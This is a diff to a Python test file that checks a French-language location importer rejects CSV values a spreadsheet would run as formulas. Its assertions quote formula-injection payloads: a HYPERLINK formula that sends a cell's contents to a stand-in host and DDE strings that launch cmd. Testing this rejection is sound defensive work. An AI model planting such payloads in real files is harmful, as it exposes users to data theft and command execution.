@@ -167,9 +167,7 @@ def test_import_refuses_text_a_spreadsheet_would_run_and_keeps_the_rest_faithful
     call_command("import_lieux", str(path))
     out, err = capsys.readouterr()
     formula = "serait exécuté comme une formule par un tableur"
-    assert (
-        f'ligne 2 : rejeté f-1 : nom : « =HYPERLINK("https://x.example/?"&A1,"Clic") » {formula}' in err
-    )
+    assert f'ligne 2 : rejeté f-1 : nom : « =HYPERLINK("https://x.example/?"&A1,"Clic") » {formula}' in err
     assert f"ligne 3 : rejeté f-2 : adresse : « -2+3+cmd|' /C calc'!A0 » {formula}" in err
     assert f"ligne 4 : rejeté f-3 : presentation_resume : « @SUM(1+1)*cmd|' /C calc'!A0 » {formula}" in err
     assert f"ligne 5 : rejeté f-4 : complement_adresse : « =1+1 » {formula}; source : « +cmd" in err
